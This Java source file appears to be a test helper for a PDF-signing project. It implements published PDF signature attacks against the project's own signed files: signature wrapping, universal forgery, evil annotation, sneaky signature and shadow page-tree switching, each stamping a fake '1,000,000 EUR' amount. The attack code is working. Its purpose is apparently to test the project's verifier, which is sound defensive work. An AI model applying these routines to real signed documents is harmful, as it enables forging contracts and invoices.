package dev.signet.signature;

import com.itextpdf.forms.form.element.SignatureFieldAppearance;
import com.itextpdf.io.font.constants.StandardFonts;
import com.itextpdf.kernel.font.PdfFontFactory;
import com.itextpdf.kernel.geom.Rectangle;
import com.itextpdf.kernel.pdf.PdfDictionary;
import com.itextpdf.kernel.pdf.PdfDocument;
import com.itextpdf.kernel.pdf.PdfIndirectReference;
import com.itextpdf.kernel.pdf.PdfName;
import com.itextpdf.kernel.pdf.PdfObject;
import com.itextpdf.kernel.pdf.PdfReader;
import com.itextpdf.kernel.pdf.PdfString;
import com.itextpdf.kernel.pdf.PdfWriter;
import com.itextpdf.kernel.pdf.StampingProperties;
import com.itextpdf.kernel.pdf.annot.PdfFreeTextAnnotation;
import com.itextpdf.kernel.pdf.canvas.PdfCanvas;
import com.itextpdf.kernel.pdf.xobject.PdfFormXObject;
import com.itextpdf.signatures.BouncyCastleDigest;
import com.itextpdf.signatures.PdfSigner;
import com.itextpdf.signatures.PrivateKeySignature;
import com.itextpdf.signatures.SignatureUtil;
import com.itextpdf.signatures.SignerProperties;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.cert.Certificate;
import java.security.cert.X509Certificate;
import java.util.Arrays;
import java.util.Date;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Consumer;
import org.bouncycastle.asn1.x500.X500Name;
import org.bouncycastle.cert.jcajce.JcaX509CertificateConverter;
import org.bouncycastle.cert.jcajce.JcaX509v3CertificateBuilder;
import org.bouncycastle.operator.jcajce.JcaContentSignerBuilder;

/**
 * The published attacks on PDF signatures, built against a file signed by Signet's own code:
 * Mladenov et al. 2019 ("1 Trillion Dollar Refund": incremental saving, signature wrapping,
 * universal signature forgery), Mainka et al. 2021 (shadow hide, replace, hide-and-replace) and
 * the 2021 certification attacks (evil annotation, sneaky signature).
 */
final class Attacks {

    private Attacks() {}

    /** An incremental update, as any PDF editor would append it, with whatever {@code edit} does. */
    static byte[] append(byte[] pdf, Consumer<PdfDocument> edit) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (PdfDocument doc = new PdfDocument(
                new PdfReader(new ByteArrayInputStream(pdf)),
                new PdfWriter(out),
                new StampingProperties().useAppendMode())) {
            edit.accept(doc);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** New text over page 1: what every attack wants the reader to see. */
    static void writeOnPage(PdfDocument doc, String text) {
        try {
            new PdfCanvas(doc.getPage(1))
                    .beginText()
                    .setFontAndSize(PdfFontFactory.createFont(StandardFonts.HELVETICA), 14)
                    .moveText(72, 40)
                    .showText(text)
                    .endText();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Universal signature forgery: the signature dictionary redefined with odd values, and the page changed. */
    static byte[] forge(byte[] pdf, String field, Consumer<PdfDictionary> change) {
        return append(pdf, doc -> {
            PdfDictionary signature = new SignatureUtil(doc).getSignatureDictionary(field);
            change.accept(signature);
            signature.setModified();
            writeOnPage(doc, "Refund: 1,000,000 EUR");
        });
    }

    /**
     * Signature wrapping (Mladenov et al. 2019, §5.2): the attacker's objects go into the space
     * after the signature's /Contents, the second signed range moves behind them, and an
     * appended revision redefines the signature dictionary with a /ByteRange pointing at the moved
     * range. The two signed ranges hash as before; the gap now hides the attacker's page content.
     * {@code field} must be the last signature.
     */
    static byte[] wrap(byte[] signed, String field) {
        long[] range;
        int signatureObject;
        long signatureOffset;
        long originalXref;
        try (PdfDocument doc = new PdfDocument(new PdfReader(new ByteArrayInputStream(signed)))) {
            SignatureUtil util = new SignatureUtil(doc);
            range = util.getSignature(field).getByteRange().toLongArray();
            PdfIndirectReference reference = util.getSignatureDictionary(field).getIndirectReference();
            signatureObject = reference.getObjNumber();
            signatureOffset = reference.getOffset();
            originalXref = doc.getReader().getLastXref();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        int b = (int) range[2];
        int end = (int) (range[2] + range[3]);
        if (end != signed.length) {
            throw new IllegalArgumentException(field + " is not the last signature");
        }
        byte[] changed = append(signed, doc -> writeOnPage(doc, "Amount due: 1,000,000 EUR"));
        int updateXref = lastIndexOf(changed, "\nxref".getBytes(StandardCharsets.US_ASCII)) + 1;
        byte[] hidden =
                concat(Arrays.copyOfRange(changed, end, updateXref), "\n<>".getBytes(StandardCharsets.US_ASCII));
        int shift = hidden.length;

        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(signed, 0, b);
        out.writeBytes(hidden);
        out.write(signed, b, end - b);
        long redefinedAt = out.size();
        String dictionary = latin1(signed, (int) signatureOffset, indexOf(signed, "endobj", (int) signatureOffset) + 6);
        String moved = "/ByteRange [0 " + range[1] + " " + (b + shift) + " " + range[3] + "]";
        out.writeBytes(bytes(dictionary.replaceFirst("/ByteRange\\s*\\[[^\\]]*\\]", moved) + "\n"));

        try (PdfDocument doc = new PdfDocument(new PdfReader(new ByteArrayInputStream(changed)))) {
            int size = doc.getNumberOfPdfObjects();
            long xrefAt = out.size();
            StringBuilder xref = new StringBuilder("xref\n0 " + size + "\n0000000000 65535 f \n");
            for (int i = 1; i < size; i++) {
                PdfObject object = doc.getPdfObject(i);
                if (object == null) {
                    xref.append("0000000000 65535 f \n");
                    continue;
                }
                long offset = object.getIndirectReference().getOffset();
                long now = i == signatureObject
                        ? redefinedAt
                        : offset < b ? offset : offset < end ? offset + shift : offset - end + b;
                xref.append(String.format("%010d 00000 n \n", now));
            }
            PdfIndirectReference root = doc.getCatalog().getPdfObject().getIndirectReference();
            xref.append("trailer\n<< /Size ")
                    .append(size)
                    .append(" /Root ")
                    .append(root.getObjNumber())
                    .append(" 0 R")
                    .append(" /Prev ")
                    .append(originalXref < b ? originalXref : originalXref + shift)
                    .append(" >>\nstartxref\n")
                    .append(xrefAt)
                    .append("\n%%EOF\n");
            out.writeBytes(bytes(xref.toString()));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** Evil annotation: a free-text annotation over page 1, which a P=2 certification does not allow. */
    static byte[] evilAnnotation(byte[] pdf) {
        return append(pdf, doc -> {
            Rectangle box = new Rectangle(72, 600, 300, 40);
            PdfFormXObject appearance = new PdfFormXObject(new Rectangle(0, 0, 300, 40));
            try {
                new PdfCanvas(appearance, doc)
                        .beginText()
                        .setFontAndSize(PdfFontFactory.createFont(StandardFonts.HELVETICA), 14)
                        .moveText(4, 14)
                        .showText("Amount due: 1,000,000 EUR")
                        .endText();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            PdfFreeTextAnnotation annotation =
                    new PdfFreeTextAnnotation(box, new PdfString("Amount due: 1,000,000 EUR"));
            annotation.setDefaultAppearance(new PdfString("/Helv 14 Tf 0 g"));
            annotation.setNormalAppearance(appearance.getPdfObject());
            doc.getPage(1).addAnnotation(annotation);
        });
    }

    /**
     * Sneaky signature: the attacker adds a signature field of their own whose appearance shows
     * whatever they like, and signs it with a self-made key.
     */
    static byte[] sneakySignature(byte[] pdf) throws Exception {
        KeyPairGenerator generator = KeyPairGenerator.getInstance("EC");
        generator.initialize(256);
        KeyPair pair = generator.generateKeyPair();
        X500Name name = new X500Name("CN=Signet Seal");
        Date now = new Date();
        X509Certificate certificate = new JcaX509CertificateConverter()
                .getCertificate(new JcaX509v3CertificateBuilder(
                                name,
                                BigInteger.ONE,
                                new Date(now.getTime() - 60_000),
                                new Date(now.getTime() + 86_400_000L),
                                name,
                                pair.getPublic())
                        .build(new JcaContentSignerBuilder("SHA256withECDSA").build(pair.getPrivate())));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        PdfSigner signer = new PdfSigner(
                new PdfReader(new ByteArrayInputStream(pdf)), out, new StampingProperties().useAppendMode());
        signer.setSignerProperties(new SignerProperties()
                .setFieldName("sneaky")
                .setPageNumber(1)
                .setPageRect(new Rectangle(72, 600, 300, 50))
                .setSignatureAppearance(
                        new SignatureFieldAppearance("sneaky").setContent("Amount due: 1,000,000 EUR")));
        signer.signDetached(
                new BouncyCastleDigest(),
                new PrivateKeySignature(pair.getPrivate(), "SHA256", null),
                new Certificate[] {certificate},
                null,
                null,
                null,
                0,
                PdfSigner.CryptoStandard.CADES);
        return out.toByteArray();
    }

    /**
     * Many signature fields added whose value is the existing signature dictionary of {@code field}
     * (written by hand: iText's form code would tidy the fields up).
     */
    static byte[] fieldsSharingOneSignature(byte[] pdf, String field, int count) {
        int signature;
        int holder;
        int size;
        try (PdfDocument doc = new PdfDocument(new PdfReader(new ByteArrayInputStream(pdf)))) {
            signature = new SignatureUtil(doc)
                    .getSignatureDictionary(field)
                    .getIndirectReference()
                    .getObjNumber();
            PdfDictionary catalog = doc.getCatalog().getPdfObject();
            PdfObject form = catalog.get(PdfName.AcroForm, false);
            PdfObject fields = catalog.getAsDictionary(PdfName.AcroForm).get(PdfName.Fields, false);
            holder = fields.isIndirectReference()
                    ? ((PdfIndirectReference) fields).getObjNumber()
                    : form.isIndirectReference()
                            ? ((PdfIndirectReference) form).getObjNumber()
                            : catalog.getIndirectReference().getObjNumber();
            size = doc.getNumberOfPdfObjects();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        Map<Integer, String> objects = new TreeMap<>();
        StringBuilder references = new StringBuilder();
        for (int i = 0; i < count; i++) {
            objects.put(
                    size + i,
                    "<< /FT /Sig /T (copy-" + i + ") /V " + signature + " 0 R /Type /Annot /Subtype /Widget"
                            + " /Rect [0 0 0 0] /F 2 >>");
            references.append(' ').append(size + i).append(" 0 R");
        }
        String text = objectText(pdf, holder);
        int open = text.startsWith("[") ? 0 : text.indexOf('[', text.indexOf("/Fields"));
        objects.put(holder, text.substring(0, open + 1) + references + " " + text.substring(open + 1));
        return appendRaw(pdf, objects);
    }

    /** Shadow hide-and-replace: the catalog switched to the page tree that was hidden in the signed document. */
    static byte[] switchPageTree(byte[] pdf, int shadowPages) {
        int catalog;
        try (PdfDocument doc = new PdfDocument(new PdfReader(new ByteArrayInputStream(pdf)))) {
            catalog = doc.getCatalog().getPdfObject().getIndirectReference().getObjNumber();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        String text =
                objectText(pdf, catalog).replaceFirst("/Pages\\s+\\d+\\s+\\d+\\s+R", "/Pages " + shadowPages + " 0 R");
        return appendRaw(pdf, Map.of(catalog, text));
    }

    /** The text between "obj" and "endobj" of an object's definition in force. */
    static String objectText(byte[] pdf, int number) {
        try (PdfDocument doc = new PdfDocument(new PdfReader(new ByteArrayInputStream(pdf)))) {
            int offset = (int) doc.getPdfObject(number).getIndirectReference().getOffset();
            int start = indexOf(pdf, "obj", offset) + 3;
            return latin1(pdf, start, indexOf(pdf, "endobj", start)).trim();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** An incremental update written by hand: these objects (new or redefined), an xref section, a trailer. */
    static byte[] appendRaw(byte[] pdf, Map<Integer, String> objects) {
        int size;
        int root;
        long previous;
        try (PdfDocument doc = new PdfDocument(new PdfReader(new ByteArrayInputStream(pdf)))) {
            size = doc.getNumberOfPdfObjects();
            root = doc.getCatalog().getPdfObject().getIndirectReference().getObjNumber();
            previous = doc.getReader().getLastXref();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(pdf);
        out.writeBytes(bytes("\n"));
        StringBuilder xref = new StringBuilder("xref\n");
        for (Map.Entry<Integer, String> object : new TreeMap<>(objects).entrySet()) {
            xref.append(object.getKey()).append(" 1\n").append(String.format("%010d 00000 n \n", out.size()));
            out.writeBytes(bytes(object.getKey() + " 0 obj\n" + object.getValue() + "\nendobj\n"));
            size = Math.max(size, object.getKey() + 1);
        }
        long xrefAt = out.size();
        xref.append("trailer\n<< /Size ")
                .append(size)
                .append(" /Root ")
                .append(root)
                .append(" 0 R /Prev ")
                .append(previous)
                .append(" >>\nstartxref\n")
                .append(xrefAt)
                .append("\n%%EOF\n");
        out.writeBytes(bytes(xref.toString()));
        return out.toByteArray();
    }

    static int lastIndexOf(byte[] haystack, byte[] needle) {
        for (int i = haystack.length - needle.length; i >= 0; i--) {
            if (Arrays.equals(haystack, i, i + needle.length, needle, 0, needle.length)) {
                return i;
            }
        }
        throw new AssertionError("not found");
    }

    static int indexOf(byte[] haystack, String text, int from) {
        byte[] needle = bytes(text);
        for (int i = from; i <= haystack.length - needle.length; i++) {
            if (Arrays.equals(haystack, i, i + needle.length, needle, 0, needle.length)) {
                return i;
            }
        }
        throw new AssertionError("not found: " + text);
    }

    static byte[] concat(byte[] first, byte[] second) {
        byte[] all = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, all, first.length, second.length);
        return all;
    }

    static String latin1(byte[] bytes, int from, int to) {
        return new String(bytes, from, to - from, StandardCharsets.ISO_8859_1);
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
